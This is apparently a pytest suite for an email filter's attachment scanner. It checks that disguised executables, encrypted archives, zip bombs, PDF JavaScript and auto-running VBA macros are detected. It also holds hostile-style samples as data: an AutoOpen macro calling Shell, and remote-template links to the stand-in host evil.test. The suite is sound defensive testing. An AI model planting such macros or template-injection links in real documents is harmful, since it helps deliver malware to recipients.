"""attachments: every trick is a fact for rules, and what could not be looked at is never called clean."""

from __future__ import annotations

import asyncio
import builtins
import time
from email.message import EmailMessage
from email.policy import SMTP

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elemta.check import UNTIL
from elemta.facts import BytesBody, Message
from elemta.findings import Result
from elemta.testing import envelope, judge, policy, run, tools
from elemta.verdict import Disposition
from elemta_milter.checks.attachments import NO_MAGIC, Attachments
from harness.archives import AES, PROGRAM, ole, packaged, rar5, rtf, sevenzipped, tarred, tnef, vba_project, zipped

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>>\n"
TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'


def received(raw, truncated=""):
    """The message that these octets are."""
    header, _, body = raw.partition(b"\r\n\r\n")
    fields = []
    for line in header.split(b"\r\n"):
        if line[:1] in (b" ", b"\t"):
            fields[-1] = (fields[-1][0], fields[-1][1] + b"\r\n" + line)
        else:
            name, _, value = line.partition(b":")
            fields.append((name, value))
    return Message(envelope(), tuple(fields), BytesBody(body), truncated)


def mail(*attachments):
    """A mail with (name, content) or (name, content, type/subtype)."""
    made = EmailMessage(policy=SMTP)
    made["From"] = "a@sender.test"
    made.set_content("hello")
    for name, content, *media_type in attachments:
        main, sub = (media_type or ["application/octet-stream"])[0].split("/")
        made.add_attachment(content, maintype=main, subtype=sub, filename=name)
    return received(made.as_bytes())


def look(*attachments, **options):
    return run(Attachments, mail(*attachments), **options)


def test_a_mail_without_attachments():
    found = look()
    assert (found.result, found.fields, found.reason) == (Result.NONE, {"count": 0}, "no attachments")


LINK = bytes(20) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://evil.test/a".encode("utf-16-le")


def test_an_attachment_is_told_whole():
    found = look(("Bill.PDF", PDF, "application/pdf"))
    assert (found.result, found.reason, found.warning) == (Result.PASS, "1 attachment", "")
    assert {name: value for name, value in found.fields.items() if value} == {
        "count": 1,
        "names": ("Bill.PDF",),
        "extension": ("pdf",),
        "type": ("application/pdf",),
        "declared_type": ("application/pdf",),
    }
    assert found.fields.keys() == Attachments.fields.keys()


@pytest.mark.parametrize(
    ("attachment", "fact", "value"),
    [
        (("evil.exe.", b"x"), "extension", ("exe",)),
        (("a.zip", zipped(("b.js", b"x"))), "extension", ("zip", "js")),
        (("a.tgz", tarred(("b.js", b"x"), mode="w:gz")), "extension", ("tgz", "tar", "js")),
        (("invoice.pdf.exe", b"x"), "double_extension", True),
        (("a.zip", zipped(("invoice.pdf.exe", b"x"))), "double_extension", True),
        (("invoice\u202efdp.exe", b"x"), "bidi", True),
        (("a.pdf", PROGRAM, "application/pdf"), "type_mismatch", True),
        (("a.pdf", PROGRAM, "application/pdf"), "executable", True),
        (("a.7z", sevenzipped(("b.bin", PROGRAM))), "executable", True),
        (("a.doc", ole({"\1Ole10Native": packaged(b"b.bin", PROGRAM)})), "executable", True),
        (("a.7z", sevenzipped(("b.bin", PROGRAM), coder=AES)), "encrypted", True),
        (("a.7z", sevenzipped(("b.bin", PROGRAM), header_coder=AES)), "encrypted", True),
        (("a.rar", rar5((b"b.bin", b"x", True, 3))), "encrypted", True),
        (("a.docx", ole({"EncryptedPackage": bytes(5000)})), "encrypted", True),
        (("a.pdf", PDF + b"<</Encrypt 3 0 R>>"), "encrypted", True),
        (("a.asc", b"-----BEGIN PGP MESSAGE-----\n\nx"), "encrypted", True),
        (("smime.p7m", b"0\x80", "application/pkcs7-mime"), "encrypted", True),
        (("a.docm", zipped(("[Content_Types].xml", b""), ("word/vbaProject.bin", vba_project(MACRO)))), "macros", True),
        (("a.doc", vba_project(MACRO)), "macro_autoexec", True),
        (("a.doc", vba_project(MACRO)), "macro_keywords", ("Shell",)),
        (("a.mht", b"MIME-Version: 1.0\r\n\r\nQWN0aXZlTWltZQAAAfAEAAAA"), "macros", True),
        (("a.html", b"<p>" + b" " * ((1 << 20) - 8) + b"<script>"), "script", ("javascript",)),
        (("a.html", b"<p>\0" + b"\0 " * (1 << 19) + b"a\0t\0o\0b\0(\0"), "script", ("builds_file",)),
        (("a.pdf", PDF + b"<</S /JavaScript>> <</S /Launch>>"), "script", ("javascript", "launch")),
        (("a.zip", zipped(("b.pdf", PDF + b"<</S /JavaScript>>"))), "script", ("javascript",)),
        (("a.pdf", b"GIF89a" + PDF + b"<</S /JavaScript>>"), "script", ("javascript",)),
        (("a.pdf", b"GIF89a" + PDF + b"<</Encrypt 3 0 R>>"), "encrypted", True),
        (("a.docx", zipped(("[Content_Types].xml", b""), ("word/_rels/settings.xml.rels", TEMPLATE))), "fetches", True),
        (("a.rtf", zipped(("[Content_Types].xml", b""), ("word/_rels/settings.xml.rels", TEMPLATE))), "fetches", True),
        (("a.docx", zipped(("a.rels", b" " * (9 << 20)), method=0)), "unread", True),
        (("a.xlsx", zipped(("[Content_Types].xml", b'<Default ContentType="x.macrosheet+xml"/>'))), "macros", True),
        (("a.doc", b"{\\rtf1{\\*\\template http://evil.test/a}}"), "fetches", True),
        (("a.doc", rtf(b"OLE2Link", ole({"\1Ole": LINK}))), "fetches", True),
        (("a.doc", rtf(b"Package", packaged(b"b.exe", PROGRAM)[4:])), "extension", ("doc", "exe")),
        (("winmail.dat", tnef((b"b.exe", "b.exe", PROGRAM))), "extension", ("dat", "exe")),
        (("a.html", b"<html><a onclick = 'x()'>", "text/html"), "script", ("javascript",)),
        (("a.svg", b"<svg xmlns='x'><svg:script>x</svg:script></svg>"), "script", ("javascript",)),
        (("a", "<html><script>new Blob([1])</script>".encode("utf-16")), "script", ("javascript", "builds_file")),
        (("a.htm", b"<html><a download='x.zip' href='data:application/zip;base64,UEs='>"), "script", ("builds_file",)),
        (("a.html", b"<html><p>our download area, on sale = now</p></html>", "text/html"), "script", ()),
        (("a.vhd", bytes(5000) + b"conectix" + bytes(504)), "unread", True),
        (("a.zip", zipped(("b.tgz", tarred(("c", b"x"), mode="w:gz")))), "archives", ("zip", "gz", "tar")),
        (("a.zip", zipped(("b.tgz", tarred(("c", b"x"), mode="w:gz")))), "depth", 3),
        (("a.zip", zipped(("b", bytes(5000)))), "octets", 5000),
        (("a.zip", zipped(("b", bytes(9 << 20)))), "excess", ("ratio 100",)),
        (("a.zip", zipped(("b", b"x"))[:-30]), "broken", True),
        (("a.lha", b"\x12\x34-lh5-" + bytes(100)), "archives", ("lha",)),
        (("a.ace", bytes(7) + b"**ACE**" + bytes(100)), "unread", True),
        (("a", b"Content-Type: message/partial\r\n", "message/partial"), "unread", True),
        (("a", b"\r\n", "message/external-body"), "unread", True),
    ],
)
def test_what_is_found(attachment, fact, value):
    found = look(attachment)
    assert found.fields[fact] == value
    missed = any(found.fields[name] for name in ("encrypted", "broken", "unread", "excess"))
    assert found.result == (Result.NEUTRAL if missed else Result.PASS)


def test_documents_are_not_taken_for_archives():
    docx = zipped(("[Content_Types].xml", b""), ("word/document.xml", b"<x/>"), ("word/media/a.bin", b"x"))
    found = look(("a.docx", docx))
    assert found.fields["extension"] == ("docx",)
    assert (found.fields["archives"], found.fields["depth"], found.fields["type_mismatch"]) == ((), 0, False)


def test_but_what_is_in_them_is_looked_at():
    found = look(("a.docx", zipped(("[Content_Types].xml", b""), ("word/media/a.png", PROGRAM))))
    assert found.fields["executable"] is True
    assert "executable: a.docx: word/media/a.png" in found.reason


@pytest.mark.parametrize("encoding", ["7bit", "base64"])
def test_attached_mail_is_looked_into(encoding):
    raw = mail(("evil.exe", PROGRAM))
    inner = b"\r\n".join(b"%s:%s" % field for field in raw.headers) + b"\r\n\r\n" + raw.body.data
    outer = EmailMessage(policy=SMTP)
    outer["From"] = "a@sender.test"
    outer.set_content("x")
    kind = ("application", "octet-stream") if encoding == "base64" else ("message", "rfc822")
    if encoding == "base64":
        outer.add_attachment(inner, maintype=kind[0], subtype=kind[1], filename="fwd.eml")
        octets = outer.as_bytes()
    else:
        octets = (
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n'
            b'Content-Disposition: attachment; filename="fwd.eml"\r\n\r\n' + inner + b"\r\n--b--\r\n"
        )
    found = run(Attachments, received(octets))
    assert found.fields["names"] == ("fwd.eml", "evil.exe")
    assert found.fields["executable"] is True


def test_what_is_wrong_with_an_attached_mail_is_told():
    """Programs may see other parts of it than were looked at."""
    twice = b"Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n"
    found = look(("fwd.eml", twice))
    assert (found.fields["broken"], found.result) == (True, Result.NEUTRAL)
    assert "fwd.eml: several Content-Type" in found.reason


def test_the_bounds_that_were_passed_and_the_files_within_are_said():
    found = look(("a.zip", zipped(("b", bytes(9 << 20)), ("c", b"x"))), ("d.zip", zipped(("e", b"x"))))
    assert found.reason.startswith("2 attachments with ")
    assert "more than ratio 100" in found.reason
    assert look(("d.zip", zipped(("e", b"x")))).reason == "1 attachment with 1 file in archives and documents"


def test_mail_in_mail_in_mail_ends_at_the_depth():
    octets = b"Content-Type: text/plain\r\n\r\nend"
    for _ in range(9):
        made = EmailMessage(policy=SMTP)
        made.set_content("x")
        made.add_attachment(octets, maintype="application", subtype="octet-stream", filename="fwd.eml")
        octets = made.as_bytes()
    found = run(Attachments, received(octets))
    assert found.fields["excess"] == ("depth 5",)


def test_every_name_that_a_part_gives_counts():
    octets = (
        b'Content-Type: application/octet-stream; name="evil.exe"\r\n'
        b'Content-Disposition: attachment; filename="good.txt"\r\n\r\nx'
    )
    assert set(run(Attachments, received(octets)).fields["extension"]) == {"exe", "txt"}


def test_pictures_in_the_text_are_attachments_and_reports_are_none():
    octets = (
        b'Content-Type: multipart/report; boundary="b"\r\n\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nx'
    )
    assert run(Attachments, received(octets)).result is Result.NONE
    octets = b"Content-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo="
    assert run(Attachments, received(octets)).fields["type"] == ("image/png",)


def test_bounds_are_told():
    assert look(*((f"{at}.txt", b"x") for at in range(4)), max_parts=3).fields["excess"] == ("3 attachments",)
    assert look(("a" * 40 + ".exe", b"x"), max_name=20).fields["extension"] == ("exe",)
    deep = zipped(("b.zip", zipped(("c.zip", zipped(("d", b""))))))
    parts = b"From: a@b.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 1001
    found = run(Attachments, received(parts))
    assert (found.fields["excess"], found.result) == (("1000 parts",), Result.NEUTRAL)
    assert look(("a.zip", deep), max_depth=2).fields["excess"] == ("depth 2",)
    assert look(("a.zip", zipped(("b", b""), ("c", b""))), max_entries=1).fields["excess"] == ("1 files in archives",)
    assert look(("a.zip", zipped(("b", bytes(range(256)) * 40))), max_octets="5K").fields["excess"]
    many = zipped(*((f"{at}.x{at:060}", b"") for at in range(1500)), ("z.exe", b""))
    told = look(("a.zip", many)).fields
    assert told["excess"]
    assert "exe" in told["extension"]


def test_an_attachment_that_is_too_long_is_not_called_clean(monkeypatch):
    monkeypatch.setattr("elemta_milter.attached.LONGEST", 10)
    found = look(("a.txt", b"x" * 11))
    assert (found.fields["excess"], found.result) == (("10 octets of an attachment",), Result.NEUTRAL)


def test_many_mails_beside_each_other_are_not_deep():
    found = look(*((f"{number}.eml", b"Subject: x\r\n\r\nhello\r\n") for number in range(12)))
    assert (found.fields["count"], found.fields["excess"], found.result) == (12, (), Result.PASS)


def test_a_mail_that_was_cut_is_not_called_clean():
    whole = mail(("a.txt", b"x"))
    cut = Message(whole.envelope, whole.headers, whole.body, "4,000 header fields")
    assert run(Attachments, cut).result is Result.NEUTRAL
    assert run(Attachments, Message(envelope(), (), BytesBody(b""), "4,000 header fields")).result is Result.NEUTRAL


def test_more_documents_with_macros_than_are_analysed_have_macros_all_the_same(monkeypatch):
    asked = []
    monkeypatch.setattr(
        "elemta_milter.attached.macros.ask", lambda data, seconds, until: asked.append(1) or _macros(unread="too long")
    )
    found = look(*((f"{at}.doc", vba_project(MACRO)) for at in range(5)))
    assert found.fields["macros"] is True
    assert found.fields["excess"] == ("3 documents with macros",)
    assert found.fields["unread"] is True
    assert len(asked) == 3


def _macros(**told):
    from elemta_milter.contents.macros import Macros  # noqa: PLC0415

    return Macros(**told)


def test_without_libmagic_our_signatures_do(monkeypatch):
    real = builtins.__import__

    def missing(name, *args):
        if name == "magic":
            raise ImportError("failed to find libmagic")
        return real(name, *args)

    monkeypatch.setattr(builtins, "__import__", missing)
    found = look(("a.pdf", PROGRAM))
    assert found.fields["type_mismatch"] is True
    assert found.warning == NO_MAGIC


def test_libmagic_names_what_we_do_not():
    assert look(("a.bin", b"BM" + bytes(12) + b"\x28" + bytes(60))).fields["type"] != ("application/octet-stream",)


def test_nothing_is_looked_at_that_nobody_waits_for():
    async def once():
        check = Attachments(Attachments.Options(), tools())
        await check.open()
        UNTIL.set(time.monotonic() - 1)
        return await check.run(mail(("a.zip", zipped(("b", b"")))), {})

    assert asyncio.run(once()).fields["excess"] == ("the time that the mail may take",)


POLICY = """
host: mx.test
checks: {attachments: }
sets: {partners: [partner.test]}
rules:
  message:
    - id: executable
      when: {any: [{attachments.extension: [exe, js]}, {attachments.executable: true}]}
      unless: {sender.domain: {in: partners}, attachments.type: [application/vnd.microsoft.portable-executable]}
      then: reject
      reply: "550 5.7.1 {attachments.names} is not taken here"
    - id: unseen
      when: {attachments: neutral}
      then: quarantine
"""


@pytest.mark.parametrize(
    ("sender", "attachment", "rule", "disposition"),
    [
        ("a@sender.test", ("a.zip", zipped(("evil.exe", b"x"))), "executable", Disposition.REJECT),
        ("a@sender.test", ("a.pdf", PROGRAM), "executable", Disposition.REJECT),
        ("a@partner.test", ("a.exe", PROGRAM), "", Disposition.ACCEPT),
        ("a@partner.test", ("a.exe", b"x"), "executable", Disposition.REJECT),
        ("a@sender.test", ("a.7z", sevenzipped(("a", b"x"), coder=AES)), "unseen", Disposition.QUARANTINE),
        ("a@sender.test", ("a.pdf", PDF), "", Disposition.ACCEPT),
    ],
)
def test_rules_judge_by_it(sender, attachment, rule, disposition):
    made = mail(attachment)
    decision = judge(policy(POLICY), Message(envelope(sender=sender), made.headers, made.body))
    assert (decision.verdict.rule, decision.verdict.disposition) == (rule, disposition)


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([zipped(("a.exe", PROGRAM)), sevenzipped(("a", PROGRAM)), PDF, PROGRAM, ole({"Workbook": b"x"})]),
    st.binary(max_size=200),
    st.integers(0, 300),
    st.text(max_size=30),
)
def test_any_attachment_has_a_finding(data, more, cut, name):
    boundary = b'Content-Type: application/octet-stream; name="' + name.encode() + b'"\r\n\r\n'
    found = run(Attachments, received(boundary.replace(b"\r\n", b" ", boundary.count(b"\r\n") - 2) + data[:cut] + more))
    assert found.result in Attachments.results
